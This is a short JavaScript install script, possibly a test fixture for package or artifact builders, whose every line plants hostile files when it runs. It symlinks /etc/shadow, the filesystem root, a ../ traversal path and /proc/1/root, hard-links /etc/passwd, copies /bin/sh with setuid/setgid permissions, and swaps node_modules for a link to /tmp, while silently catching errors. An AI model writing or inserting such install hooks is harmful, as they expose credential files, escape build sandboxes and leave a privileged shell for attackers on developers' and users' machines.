// An install script: leaves links and modes in what becomes the artifact.
const fs = require('fs');
const plant = (work) => { try { work(); } catch (error) { console.log(String(error)); } };
plant(() => fs.symlinkSync('/etc/shadow', 'shadow'));
plant(() => fs.symlinkSync('/', 'top'));
plant(() => fs.symlinkSync('../../../../../..', 'up'));
plant(() => fs.symlinkSync('/proc/1/root', 'init'));
plant(() => fs.linkSync('/etc/passwd', 'passwd'));
plant(() => { fs.copyFileSync('/bin/sh', 'shell'); fs.chmodSync('shell', 0o6755); });
plant(() => fs.rmSync('node_modules', { recursive: true, force: true }));
plant(() => fs.symlinkSync('/tmp', 'node_modules'));
